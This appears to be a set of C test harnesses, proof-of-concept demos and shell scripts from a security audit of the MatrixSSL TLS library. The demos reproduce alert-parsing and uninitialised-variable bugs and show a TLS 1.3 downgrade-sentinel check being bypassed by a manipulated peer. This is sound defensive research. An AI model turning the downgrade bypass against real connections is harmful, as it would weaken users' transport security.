    int alerts[32][2];
    int nalerts;
    int err;           /* first negative return code */
    int reqClose;      /* MATRIXSSL_REQUEST_CLOSE seen */
    int hsCompleteEv;  /* MATRIXSSL_HANDSHAKE_COMPLETE events */
    int sendPartial;   /* 0: one matrixSslSentData for all, N: N bytes at a time */
    int verbose;
} ep_t;

static int32 certCbAccept(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static sslKeys_t *mkKeys(void)
{
    sslKeys_t *keys = NULL;
    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        printf("matrixSslNewKeys failed\n"); exit(2);
    }
    if (matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("matrixSslLoadRsaKeysMem failed\n"); exit(2);
    }
    return keys;
}

/* Move everything the session wants to send into ep->out, acknowledging it
   to the library with the configured partial-send pattern. */
static void ep_drain(ep_t *ep)
{
    unsigned char *buf;
    int32 n, rc;

    while ((n = matrixSslGetOutdata(ep->ssl, &buf)) > 0)
    {
        int32 k = n;
        if (ep->sendPartial > 0 && k > ep->sendPartial)
        {
            k = ep->sendPartial;
        }
        bytes_add(&ep->out, buf, k);
        ep->outTotal += k;
        rc = matrixSslSentData(ep->ssl, k);
        if (ep->verbose)
        {
            printf("  [%s] sent %d of %d -> rc %d\n", ep->name, k, n, rc);
        }
        if (rc == MATRIXSSL_REQUEST_CLOSE)
        {
            ep->reqClose = 1;
        }
        else if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            ep->hsCompleteEv++;
        }
        else if (rc < 0 && !ep->err)
        {
            ep->err = rc;
        }
    }
}

/* The usual application loop around one matrixSslReceivedData() result. */
static void ep_handle(ep_t *ep, int32 rc, unsigned char *pt, uint32 ptLen)
{
    for (;; )
    {
        if (ep->verbose)
        {
            printf("  [%s] rc=%d ptLen=%u\n", ep->name, rc, ptLen);
        }
        switch (rc)
        {
        case MATRIXSSL_REQUEST_SEND:
            ep_drain(ep);
            return;
        case MATRIXSSL_REQUEST_RECV:
        case MATRIXSSL_SUCCESS:
            ep_drain(ep);
            return;
        case MATRIXSSL_HANDSHAKE_COMPLETE:
            ep->hsCompleteEv++;
            ep_drain(ep);
            return;
        case MATRIXSSL_RECEIVED_ALERT:
            if (ep->nalerts < 32)
            {
                ep->alerts[ep->nalerts][0] = pt[0];
                ep->alerts[ep->nalerts][1] = pt[1];
                ep->nalerts++;
            }
            if (pt[0] == SSL_ALERT_LEVEL_FATAL)
            {
                /* what the session has emitted so far is part of the trace
                   even if the application will not bother to send it */
                ep_drain(ep);
                return;
            }
            rc = matrixSslProcessedData(ep->ssl, &pt, &ptLen);
            continue;
        case MATRIXSSL_APP_DATA:
        case MATRIXSSL_APP_DATA_COMPRESSED:
            bytes_add(&ep->pt, pt, ptLen);
            rc = matrixSslProcessedData(ep->ssl, &pt, &ptLen);
            continue;
        default:
            if (rc < 0 && !ep->err)
            {
                ep->err = rc;
            }
            ep_drain(ep);
            return;
        }
    }
}

/* One receive call: n bytes arrive at once. */
static void ep_recv(ep_t *ep, const unsigned char *p, size_t n)
{
    unsigned char *buf, *pt = NULL;
    uint32 ptLen = 0;
    int32 room, rc;

    if (ep->err)
    {
        return;
    }
    room = matrixSslGetReadbufOfSize(ep->ssl, (int32) n, &buf);
    if (room < (int32) n)
    {
        printf("readbuf too small %d < %zu\n", room, n); exit(2);
    }
    memcpy(buf, p, n);
    rc = matrixSslReceivedData(ep->ssl, (uint32) n, &pt, &ptLen);
    ep_handle(ep, rc, pt, ptLen);
}

/* Chunking policies */
#define CH_ALL     0 /* everything in one receive call */
#define CH_RECORD  1 /* one TLS record per receive call */
#define CH_BYTE    2 /* one byte per receive call */
#define CH_STRADDLE 3 /* record boundaries + 3 bytes (straddling) */
#define CH_READBUF 4 /* like read(fd, buf, room): as much as matrixSslGetReadbuf() offers */

static void ep_recv_chunked(ep_t *ep, const unsigned char *p, size_t n, int pol)
{
    size_t off = 0;

    while (off < n)
    {
        size_t k = n - off;
        if (pol == CH_BYTE)
        {
            k = 1;
        }
        else if (pol == CH_READBUF)
        {
            unsigned char *rb;
            int32 room = matrixSslGetReadbuf(ep->ssl, &rb);
            if (ep->err)
            {
                return;
            }
            if (room <= 0)
            {
                printf("no room in readbuf\n"); exit(2);
            }
            if ((size_t) room < k)
            {
                k = room;
            }
        }
        else if (pol == CH_RECORD || pol == CH_STRADDLE)
        {
            if (n - off >= 5)
            {
                size_t rl = 5 + ((p[off + 3] << 8) | p[off + 4]);
                if (pol == CH_STRADDLE)
                {
                    rl += 3;
                }
                if (rl < k)
                {
                    k = rl;
                }
            }
        }
        ep_recv(ep, p + off, k);
        off += k;
    }
}

static void ep_send_app(ep_t *ep, const char *s)
{
    int32 rc = matrixSslEncodeToOutdata(ep->ssl, (unsigned char *) s,
            (uint32) strlen(s));
    if (rc < 0)
    {
        if (ep->verbose)
        {
            printf("  [%s] EncodeToOutdata failed %d\n", ep->name, rc);
        }
        if (!ep->err)
        {
            ep->err = rc;
        }
    }
}

static void ep_summary(ep_t *ep, char *dst, size_t dstLen)
{
    int i;
    size_t o = 0;

    o += snprintf(dst + o, dstLen - o, "hsDone=%d err=%d reqClose=%d "
            "flagsErr=%d flagsClosed=%d outTotal=%zu pt[%zu]=\"",
            matrixSslHandshakeIsComplete(ep->ssl) ? 1 : 0,
            ep->err, ep->reqClose,
            (ep->ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0,
            (ep->ssl->flags & SSL_FLAGS_CLOSED) ? 1 : 0,
            ep->outTotal, ep->pt.n);
    for (i = 0; i < (int) ep->pt.n && o + 8 < dstLen; i++)
    {
        unsigned char c = ep->pt.b[i];
        if (c >= 32 && c < 127)
        {
            dst[o++] = c;
        }
        else
        {
            o += snprintf(dst + o, dstLen - o, "\\x%02x", c);
        }
    }
    o += snprintf(dst + o, dstLen - o, "\" alerts=");
    for (i = 0; i < ep->nalerts; i++)
    {
        o += snprintf(dst + o, dstLen - o, "(%d,%d)", ep->alerts[i][0],
                ep->alerts[i][1]);
    }
}

/* Run fn in a forked copy of the process; fn writes a one-line summary.
   Both copies start from the identical session state and are given the
   identical bytes: only the partition into receive calls differs. */
typedef void (*variantFn_t)(int variant, char *summary, size_t len);

static int run_variant(variantFn_t fn, int variant, char *summary, size_t len)
{
    int fds[2];
    pid_t pid;
    ssize_t r;
    size_t got = 0;
    int status;

    fflush(stdout);
    if (pipe(fds) < 0)
    {
        perror("pipe"); exit(2);
    }
    pid = fork();
    if (pid == 0)
    {
        char buf[8192];
        close(fds[0]);
        memset(buf, 0, sizeof(buf));
        fn(variant, buf, sizeof(buf));
        fflush(stdout);
        if (write(fds[1], buf, strlen(buf)) < 0)
        {
            _exit(3);
        }
        _exit(0);
    }
    close(fds[1]);
    memset(summary, 0, len);
    while ((r = read(fds[0], summary + got, len - 1 - got)) > 0)
    {
        got += r;
    }
    close(fds[0]);
    waitpid(pid, &status, 0);
    if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
    {
        snprintf(summary + got, len - got, " [child died status=0x%x]", status);
    }
    return 0;
}

#endif
