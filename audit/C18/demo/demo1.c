/* C18 demo 1: TLS 1.3 - an alert that arrives in the same receive call as an
   ignored ChangeCipherSpec in front of it is handed to the application with
   the wrong two bytes.

   tls13Decode.c:tls13ParseAndHandleAlert() copies the alert to the front of
   the buffer with Memmove(*in, *in + TLS_REC_HDR_LEN, 2).  That offset is only
   right when the alert record is the first record of the decode call.  The
   TLS 1.3 decoder skips ChangeCipherSpec records in a loop inside one call
   (parsedBytes), so with [CCS][alert] in the buffer the two bytes copied are
   the CCS body (0x01) and the first byte of the alert record header.
   (The application-data path uses TLS_REC_HDR_LEN + parsedBytes; the alert
   path does not.)

   Part A: server waiting for the client's Finished, plaintext fatal alert
           bad_certificate (2,42) behind the compatibility CCS.
   Part B: client awaiting a ServerHello (for instance after a HelloRetryRequest
           whose compatibility CCS is still in flight) receives
           [CCS][plaintext alert fatal(2) handshake_failure(40)].
   (An encrypted alert takes the same route: line 554-560 of tls13Decode.c
   calls the same function with the same *in.)

   Each part delivers the identical bytes to forked copies of the identical
   session: once in one receive call, once record by record, once byte by
   byte. */
#include "harness.h"

static sslKeys_t *g_keys;
static ep_t C, S;
static bytes_t X;

static void mkpair(void)
{
    sslSessOpts_t so, co;
    memset(&C, 0, sizeof(C)); memset(&S, 0, sizeof(S));
    C.name = "cli"; S.name = "srv";
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = SSL_FLAGS_TLS_1_3; co.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewServerSession(&S.ssl, g_keys, NULL, &so) < 0)
    {
        printf("new server failed\n"); exit(2);
    }
    if (matrixSslNewClientSession(&C.ssl, g_keys, NULL, NULL, 0,
            certCbAccept, NULL, NULL, NULL, &co) < 0)
    {
        printf("new client failed\n"); exit(2);
    }
    ep_drain(&C);
}

static void xfer(ep_t *from, ep_t *to, int pol)
{
    bytes_t w = { 0 };
    bytes_add(&w, from->out.b, from->out.n); from->out.n = 0;
    ep_recv_chunked(to, w.b, w.n, pol);
    free(w.b);
}

static ep_t *g_target;
static void targetGets(int variant, char *sum, size_t len)
{
    ep_recv_chunked(g_target, X.b, X.n, variant);
    ep_summary(g_target, sum, len);
}

static int compare(const char *name)
{
    char a[8192], b[8192], c[8192];
    int diff;
    run_variant(targetGets, CH_ALL, a, sizeof(a));
    run_variant(targetGets, CH_RECORD, b, sizeof(b));
    run_variant(targetGets, CH_BYTE, c, sizeof(c));
    diff = strcmp(a, b) || strcmp(b, c);
    printf("== %s (%zu bytes)\n  one call   : %s\n  per record : %s\n  per byte   : %s\n",
        name, X.n, a, b, c);
    return diff;
}

int main(void)
{
    static const unsigned char ccs[] = { 0x14, 3, 3, 0, 1, 1 };
    static const unsigned char alert[] = { 0x15, 3, 3, 0, 2, 2, 42 };
    static const unsigned char alert2[] = { 0x15, 3, 3, 0, 2, 2, 40 };
    int bad = 0;

    matrixSslOpen();
    g_keys = mkKeys();

    /* Part A */
    mkpair();
    xfer(&C, &S, CH_ALL);           /* ClientHello in, server flight out */
    g_target = &S;
    X.n = 0; bytes_add(&X, ccs, sizeof(ccs)); bytes_add(&X, alert, sizeof(alert));
    if (compare("A: server awaiting Finished receives [CCS][plaintext alert fatal(2) bad_certificate(42)]"))
    {
        printf("VIOLATION: the alert reported to the application depends on "
            "whether the ChangeCipherSpec in front of it arrived in the same "
            "receive call: (1,21) = warning/decryption_failed instead of (2,42)\n");
        bad = 1;
    }

    /* Part B */
    mkpair();
    g_target = &C;
    X.n = 0; bytes_add(&X, ccs, sizeof(ccs)); bytes_add(&X, alert2, sizeof(alert2));
    if (compare("B: client awaiting ServerHello receives [CCS][plaintext alert fatal(2) handshake_failure(40)]"))
    {
        printf("VIOLATION: same on the client: the application is shown "
            "(1,21) instead of (2,40) for the same received byte stream\n");
        bad = 1;
    }
    if (!bad)
    {
        printf("OK: every partition of the same bytes gave the same result\n");
    }
    return bad;
}
