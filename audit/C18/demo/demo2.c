/* C18 demo 2: TLS 1.3 - a ChangeCipherSpec record that arrives alone, in its
   own receive call, while earlier output has not been drained completely
   (partial send) makes the session demand that the connection be closed.

   tls13Decode.c:matrixSslDecodeTls13(), CCS branch (line ~285-297): when the
   ignored ChangeCipherSpec is the last thing in the buffer and ssl->outlen > 0
   it returns SSL_SEND_RESPONSE without ever writing *alertDescription.
   matrixsslApi.c:matrixSslReceivedData(), case SSL_SEND_RESPONSE, then tests
   its own uninitialised local:  if (alertDesc != SSL_ALERT_NONE)
   ssl->bFlags |= BFLAG_CLOSE_AFTER_SENT;   Unless the stack slot happens to
   hold 255 the session is flagged: matrixSslSentData() answers
   MATRIXSSL_REQUEST_CLOSE once the pending flight is out and
   matrixSslEncodeToOutdata() refuses with PS_PROTOCOL_FAIL.
   When the same CCS arrives in the same receive call as the message in front
   of it, alertDesc still holds SSL_ALERT_NONE from the previous loop
   iteration, and when the output was already drained the branch is not taken.

   Part A (client): HelloRetryRequest followed by the compatibility CCS that
   OpenSSL/BoringSSL/NSS servers send behind it.
   Part B (server): ClientHello followed by the compatibility CCS of a client
   that goes on to send 0-RTT data.

   Variants (identical bytes, identical session, forked):
     1  [msg][CCS] in one receive call, output then sent in 100-byte pieces
     2  [msg] / 100 bytes sent / [CCS] / rest sent
     3  [msg] / everything sent / [CCS]
   (valgrind reports "Conditional jump or move depends on uninitialised
   value(s)" in matrixSslReceivedData for variant 2.) */
#include "harness.h"

static sslKeys_t *g_keys;
static ep_t C, S;
static bytes_t MSG; /* the record(s) in front of the CCS */
static const unsigned char ccs[] = { 0x14, 3, 3, 0, 1, 1 };

static void __attribute__((noinline)) dirty_stack(void)
{
    /* what any earlier function of the application may have left behind */
    volatile unsigned char a[8192];
    if (getenv("NODIRTY")) return;
    size_t i;
    for (i = 0; i < sizeof(a); i++)
    {
        a[i] = 0x41;
    }
}

static void mkpair(int forceHrr)
{
    sslSessOpts_t so, co;
    uint16_t cg[] = { namedgroup_secp256r1, namedgroup_secp384r1 };
    uint16_t sg[] = { namedgroup_secp384r1 };

    memset(&C, 0, sizeof(C)); memset(&S, 0, sizeof(S));
    C.name = "cli"; S.name = "srv";
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = SSL_FLAGS_TLS_1_3; co.versionFlag = SSL_FLAGS_TLS_1_3;
    if (forceHrr)
    {
        if (matrixSslSessOptsSetKeyExGroups(&co, cg, 2, 1) < 0 ||
            matrixSslSessOptsSetKeyExGroups(&so, sg, 1, 1) < 0)
        {
            printf("SetKeyExGroups failed\n"); exit(2);
        }
    }
    if (matrixSslNewServerSession(&S.ssl, g_keys, NULL, &so) < 0)
    {
        printf("new server failed\n"); exit(2);
    }
    if (matrixSslNewClientSession(&C.ssl, g_keys, NULL, NULL, 0,
            certCbAccept, NULL, NULL, NULL, &co) < 0)
    {
        printf("new client failed\n"); exit(2);
    }
    ep_drain(&C);
}

static void xfer(ep_t *from, ep_t *to)
{
    bytes_t w = { 0 };
    bytes_add(&w, from->out.b, from->out.n); from->out.n = 0;
    ep_recv_chunked(to, w.b, w.n, CH_RECORD);
    free(w.b);
}

/* one receive call, NOT followed by a drain */
static int32 rawRecv(ep_t *ep, const unsigned char *p, size_t n)
{
    unsigned char *buf, *pt; uint32 ptLen; int32 rc;
    if (matrixSslGetReadbufOfSize(ep->ssl, (int32) n, &buf) < (int32) n)
    {
        printf("readbuf\n"); exit(2);
    }
    memcpy(buf, p, n);
    dirty_stack();
    rc = matrixSslReceivedData(ep->ssl, (uint32) n, &pt, &ptLen);
    if (rc < 0 && !ep->err)
    {
        ep->err = rc;
    }
    return rc;
}

static void sendSome(ep_t *ep, int32 max)
{
    unsigned char *buf; int32 n, rc;
    n = matrixSslGetOutdata(ep->ssl, &buf);
    if (n <= 0)
    {
        return;
    }
    if (max > 0 && n > max)
    {
        n = max;
    }
    bytes_add(&ep->out, buf, n); ep->outTotal += n;
    rc = matrixSslSentData(ep->ssl, n);
    if (rc == MATRIXSSL_REQUEST_CLOSE)
    {
        ep->reqClose = 1;
    }
}

static ep_t *g_t, *g_peer;
static void variant(int v, char *sum, size_t len)
{
    size_t o;
    int i;
    bytes_t both = { 0 };

    switch (v)
    {
    case 1:
        bytes_add(&both, MSG.b, MSG.n); bytes_add(&both, ccs, sizeof(ccs));
        rawRecv(g_t, both.b, both.n);
        break;
    case 2:
        rawRecv(g_t, MSG.b, MSG.n);
        sendSome(g_t, 100);
        rawRecv(g_t, ccs, sizeof(ccs));
        break;
    case 3:
        rawRecv(g_t, MSG.b, MSG.n);
        while (matrixSslGetOutdata(g_t->ssl, NULL) > 0)
        {
            sendSome(g_t, 0);
        }
        rawRecv(g_t, ccs, sizeof(ccs));
        break;
    }
    while (matrixSslGetOutdata(g_t->ssl, NULL) > 0)
    {
        sendSome(g_t, 100);
    }
    o = snprintf(sum, len, "CLOSE_AFTER_SENT=%d REQUEST_CLOSE=%d",
            !!(g_t->ssl->bFlags & BFLAG_CLOSE_AFTER_SENT), g_t->reqClose);
    /* An application that is told to close does so; otherwise go on */
    if (!g_t->reqClose)
    {
        for (i = 0; i < 8 && (C.out.n || S.out.n); i++)
        {
            if (g_t->out.n) xfer(g_t, g_peer);
            if (g_peer->out.n) xfer(g_peer, g_t);
        }
    }
    o += snprintf(sum + o, len - o, " handshakeComplete: cli=%d srv=%d",
            matrixSslHandshakeIsComplete(C.ssl), matrixSslHandshakeIsComplete(S.ssl));
    if (matrixSslHandshakeIsComplete(g_t->ssl))
    {
        int32 rc = matrixSslEncodeToOutdata(g_t->ssl, (unsigned char *) "ping", 4);
        snprintf(sum + o, len - o, " EncodeToOutdata=%d", rc);
    }
}

static int part(const char *name)
{
    char r[3][8192];
    int v;
    printf("== %s (%zu bytes + 6 bytes CCS)\n", name, MSG.n);
    for (v = 1; v <= 3; v++)
    {
        run_variant(variant, v, r[v - 1], sizeof(r[0]));
        printf("  variant %d: %s\n", v, r[v - 1]);
    }
    return strcmp(r[0], r[1]) || strcmp(r[1], r[2]);
}

int main(void)
{
    int bad = 0;

    matrixSslOpen();
    g_keys = mkKeys();

    /* Part A: client, HelloRetryRequest + CCS */
    mkpair(1);
    xfer(&C, &S);
    if (S.out.n == 0 || matrixSslHandshakeIsComplete(S.ssl))
    {
        printf("no HRR?\n"); return 2;
    }
    printf("server answered the first ClientHello with %zu bytes (HelloRetryRequest)\n", S.out.n);
    MSG.n = 0; bytes_add(&MSG, S.out.b, S.out.n); S.out.n = 0;
    g_t = &C; g_peer = &S;
    if (part("A: client receives HelloRetryRequest then the compatibility CCS"))
    {
        printf("VIOLATION: with the CCS in its own receive call while the second "
            "ClientHello is only partly sent, the client session asks to be "
            "closed and the handshake never completes; the same bytes in one "
            "call (or after a full send) complete the handshake\n");
        bad = 1;
    }

    /* Part B: server, ClientHello + CCS */
    mkpair(0);
    MSG.n = 0; bytes_add(&MSG, C.out.b, C.out.n); C.out.n = 0;
    g_t = &S; g_peer = &C;
    if (part("B: server receives ClientHello then the compatibility CCS"))
    {
        printf("VIOLATION: same on the server: it sends its flight and then "
            "demands MATRIXSSL_REQUEST_CLOSE, depending only on how the bytes "
            "were split and how the flight was drained\n");
        bad = 1;
    }
    if (!bad)
    {
        printf("OK: every partition of the same bytes gave the same result\n");
    }
    return bad;
}
