#!/bin/sh
# control cases: honest handshakes + app data under all chunkings (explore1: 1.2/1.3, full/resumed, client auth;
# explore5: 1.3 0-RTT accepted/rejected with 0.5-RTT reply; explore9: 1.2 False Start)
cd /tmp/seed-C18/audit-out/demo && ./build.sh explore >/dev/null 2>&1
./explore/explore1 > /tmp/c18-e1.log 2>&1
echo "explore1: endpoints total=$(grep -c 'hsDone=' /tmp/c18-e1.log) ok=$(grep -c 'hsDone=1 err=0 reqClose=0 flagsErr=0 flagsClosed=0' /tmp/c18-e1.log)"
./explore/explore5 2>&1 | grep -v '^Ignored' > /tmp/c18-e5.log
echo "explore5 (srvEarly=1 runs): endpoints total=$(grep -A2 'srvEarly=1' /tmp/c18-e5.log | grep -c 'hsDone=') ok=$(grep -A2 'srvEarly=1' /tmp/c18-e5.log | grep -c 'hsDone=1 err=0 reqClose=0 flagsErr=0 flagsClosed=0')"
./explore/explore9 > /tmp/c18-e9.log 2>&1
echo "explore9 (False Start): same=$(grep -c '^  same' /tmp/c18-e9.log) different=$(grep -c DIFFERENT /tmp/c18-e9.log)"
rm -f explore/explore[0-9]
