#!/bin/sh
# usage: verify.sh N "<demo command>"   (run with the patch N applied in the worktree)
# (a) make -j4  (b) demo  (c) crypto tests + sslTest
N=$1
DEMO=$2
TOP=/tmp/seed-C18
LOG=$TOP/audit-out/fix/verify$N.log
cd $TOP
{
echo "### git diff --stat"; git diff --stat
echo "### (a) make -j4"
make -j4 > /tmp/c18-make.log 2>&1; echo "make exit=$?"
echo "### (b) demo"
(cd audit-out/demo && ./build.sh) ; echo "build.sh exit=$?"
(cd audit-out/demo && eval "$DEMO" 2>&1 | grep -v "^Ignored");
(cd audit-out/demo && eval "$DEMO" > /dev/null 2>&1; echo "demo exit=$?")
echo "### (c) tests"
for t in algorithmTest eccTest rsaTest hmacTest; do
  (cd crypto/test && ./$t > /tmp/c18-$t.log 2>&1; echo "$t exit=$?")
done
(cd matrixssl/test && ./sslTest > /tmp/c18-sslTest.log 2>&1; echo "sslTest exit=$?")
tail -3 /tmp/c18-sslTest.log
} > $LOG 2>&1
cat $LOG
