/* Common in-memory client/server harness for the C07 audit demos.
   Only the public MatrixSSL API is used to drive the sessions; the
   internal header is included so that the demos can (a) read negotiated
   state of the session under test and (b) in the demos that need a
   NON-MatrixSSL ("legacy" or malicious) peer, alter the state of the
   *peer* session from inside one of its application callbacks.  The
   session under test is never modified. */
#ifndef C07_COMMON_H
#define C07_COMMON_H

#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#ifndef KEYDIR
# define KEYDIR "../../testkeys"
#endif

#define RSA_CERT  KEYDIR "/RSA/2048_RSA.pem"
#define RSA_KEY   KEYDIR "/RSA/2048_RSA_KEY.pem"
#define RSA_CA    KEYDIR "/RSA/2048_RSA_CA.pem"

typedef struct
{
    int complete;          /* MATRIXSSL_HANDSHAKE_COMPLETE seen */
    int err;               /* negative API return seen */
    int alertLevel;        /* alert RECEIVED by this endpoint */
    int alertDesc;
    int appBytes;
} epState_t;

typedef void (*mitmFn_t)(int toServer, unsigned char *buf, int32 *len);

static int32_t acceptAllCerts(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return PS_SUCCESS;
}

static void epHandle(ssl_t *ssl, epState_t *st, int32 rc,
        unsigned char *pt, uint32 ptLen)
{
    for (;;)
    {
        if (rc < 0)
        {
            if (!st->err) st->err = rc;
            return;
        }
        switch (rc)
        {
        case MATRIXSSL_HANDSHAKE_COMPLETE:
            st->complete = 1;
            return;
        case MATRIXSSL_RECEIVED_ALERT:
            st->alertLevel = pt[0];
            st->alertDesc = pt[1];
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
            break;
        case MATRIXSSL_APP_DATA:
            st->appBytes += ptLen;
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
            break;
        default:
            return;
        }
    }
}

/* Move everything 'from' wants to send into 'to'. Returns bytes moved. */
static int pumpOne(ssl_t *from, epState_t *fromSt, ssl_t *to, epState_t *toSt,
        int toServer, mitmFn_t mitm)
{
    unsigned char *out, *rb, *pt;
    unsigned char tmp[32768];
    int32 len, n, off, rc;
    uint32 ptLen;
    int moved = 0;

    while ((len = matrixSslGetOutdata(from, &out)) > 0)
    {
        if (len > (int32) sizeof(tmp)) len = sizeof(tmp);
        memcpy(tmp, out, len);
        rc = matrixSslSentData(from, len);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) fromSt->complete = 1;
        if (rc < 0 && !fromSt->err) fromSt->err = rc;
        if (mitm) mitm(toServer, tmp, &len);
        off = 0;
        while (off < len)
        {
            if (toSt->err) return moved;
            n = matrixSslGetReadbuf(to, &rb);
            if (n <= 0) { toSt->err = n ? n : -1; return moved; }
            if (n > len - off) n = len - off;
            memcpy(rb, tmp + off, n);
            off += n;
            moved += n;
            pt = NULL; ptLen = 0;
            rc = matrixSslReceivedData(to, n, &pt, &ptLen);
            epHandle(to, toSt, rc, pt, ptLen);
        }
    }
    return moved;
}

/* Run the handshake to quiescence. */
static void runHandshake(ssl_t *cli, epState_t *cs, ssl_t *srv, epState_t *ss,
        mitmFn_t mitm)
{
    int i, moved;

    for (i = 0; i < 40; i++)
    {
        moved = pumpOne(cli, cs, srv, ss, 1, mitm);
        moved += pumpOne(srv, ss, cli, cs, 0, mitm);
        if (moved == 0) break;
    }
}

static sslKeys_t *loadServerKeys(void)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) return NULL;
    if (matrixSslLoadRsaKeys(k, RSA_CERT, RSA_KEY, NULL, NULL) < 0)
    {
        fprintf(stderr, "cannot load server keys from %s\n", RSA_CERT);
        return NULL;
    }
    return k;
}

static sslKeys_t *loadClientKeys(void)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) return NULL;
    if (matrixSslLoadRsaKeys(k, NULL, NULL, NULL, RSA_CA) < 0)
    {
        fprintf(stderr, "cannot load CA from %s\n", RSA_CA);
        return NULL;
    }
    return k;
}

static const char *verName(psProtocolVersion_t v)
{
    v &= 0x00ffffff;
    return (v == v_tls_1_3) ? "TLS1.3" : (v == v_tls_1_2) ? "TLS1.2" :
           (v == v_tls_1_1) ? "TLS1.1" : (v == v_tls_1_0) ? "TLS1.0" :
           (v == v_dtls_1_2) ? "DTLS1.2" : (v == v_dtls_1_0) ? "DTLS1.0" : "?";
}

#endif
