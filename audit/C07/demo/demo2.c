/* demo2: a client with TLS 1.3 and TLS 1.2 enabled completes a TLS 1.2
   handshake although ServerHello.random ends with the RFC 8446 4.1.3
   downgrade sentinel "DOWNGRD\x01" - provided the ServerHello carries no
   extension block.

   performTls13DowngradeCheck() is only called from inside the
   "if (c != end && hsLen > c - extData)" block of parseServerHello()
   (matrixssl/hsDecode.c), i.e. only for a ServerHello that has extensions.
   An attacker who rewrites the ClientHello to force TLS 1.2 removes the
   client's extensions anyway (supported_versions must go), so the
   ServerHello of the downgraded handshake typically has none.

   The peer models a TLS 1.3 capable server that has been made to negotiate
   TLS 1.2: a MatrixSSL server session that negotiates TLS 1.2, whose SNI
   application callback then marks TLS 1.3 as supported (so that the library's
   own psGenerateServerRandom() writes the sentinel) and makes it answer no
   hello extension.  The client session under test is untouched library code
   driven through the public API.

   Control run: same, but the server still answers extended_master_secret;
   the client then aborts with illegal_parameter as it must. */
#include "common.h"

static sslKeys_t *g_srvKeys;
static int g_stripAll;
static int g_tls13Server = 1;

static void downgradedServerSni(void *p, char *host, int32 hostLen,
        sslKeys_t **newKeys)
{
    ssl_t *srv = (ssl_t *) p;

    (void) host; (void) hostLen;
    /* TLS 1.2 was negotiated; this server does support TLS 1.3 */
    if (g_tls13Server)
    {
        srv->supportedVersions |= v_tls_1_3;
    }
    srv->extFlags.sni_in_last_client_hello = 0;
    srv->extFlags.got_elliptic_points = 0;
    if (g_stripAll)
    {
        srv->extFlags.extended_master_secret = 0;
    }
    *newKeys = g_srvKeys;
}

static int run(int stripAll, int *sentinel, int *alertAtServer,
        psProtocolVersion_t *ver)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslKeys_t *ck;
    sslSessOpts_t co, so;
    epState_t cs, ss;
    tlsExtension_t *ext = NULL;
    unsigned char *sni = NULL;
    int32 sniLen = 0;
    int rc;

    g_stripAll = stripAll;
    memset(&cs, 0, sizeof(cs)); memset(&ss, 0, sizeof(ss));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));

    g_srvKeys = loadServerKeys();
    ck = loadClientKeys();
    if (!g_srvKeys || !ck) exit(2);

    so.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0) exit(2);
    matrixSslRegisterSNICallback(srv, downgradedServerSni);

    /* Client: TLS 1.2 and TLS 1.3 */
    if (matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_2, v_tls_1_3) < 0)
        exit(2);
    matrixSslNewHelloExtension(&ext, NULL);
    matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &sni, &sniLen);
    matrixSslLoadHelloExtension(ext, sni, sniLen, EXT_SNI);
    rc = matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, acceptAllCerts,
            NULL, ext, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("client new: %d\n", rc); exit(2); }

    runHandshake(cli, &cs, srv, &ss, NULL);

    *sentinel = (memcmp(cli->sec.serverRandom + 24, "DOWNGRD\x01", 8) == 0);
    *alertAtServer = ss.alertDesc;
    *ver = matrixSslGetNegotiatedVersion(cli);
    printf("  stripAll=%d: client complete=%d err=%d  server complete=%d "
           "alert-from-client=%d  client: TLS1.3-enabled=%d version=%s "
           "suite=0x%04x  server_random[24..31]=%02x%02x%02x%02x%02x%02x%02x%02x\n",
           stripAll, cs.complete, cs.err, ss.complete, ss.alertDesc,
           (cli->supportedVersions & v_tls_1_3) ? 1 : 0,
           verName(*ver), cli->cipher ? cli->cipher->ident : 0,
           cli->sec.serverRandom[24], cli->sec.serverRandom[25],
           cli->sec.serverRandom[26], cli->sec.serverRandom[27],
           cli->sec.serverRandom[28], cli->sec.serverRandom[29],
           cli->sec.serverRandom[30], cli->sec.serverRandom[31]);
    rc = cs.complete && ss.complete;
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    return rc;
}

int main(void)
{
    int sentinel, alert, done;
    psProtocolVersion_t ver;

    if (matrixSslOpen() < 0) return 2;

    printf("control: downgraded ServerHello that still has an extension\n");
    done = run(0, &sentinel, &alert, &ver);
    if (done || alert != SSL_ALERT_ILLEGAL_PARAMETER || !sentinel)
    {
        printf("control did not behave as expected (done=%d alert=%d "
               "sentinel=%d)\n", done, alert, sentinel);
        return 2;
    }
    printf("  -> client aborted (illegal_parameter): sentinel honoured\n");

    printf("sanity: genuine TLS 1.2-only server, ServerHello without "
           "extension block\n");
    g_tls13Server = 0;
    done = run(1, &sentinel, &alert, &ver);
    g_tls13Server = 1;
    if (!done || sentinel)
    {
        printf("honest extension-less TLS 1.2 handshake failed (alert=%d)\n",
               alert);
        return 2;
    }
    printf("  -> completes at TLS 1.2 (no sentinel)\n");

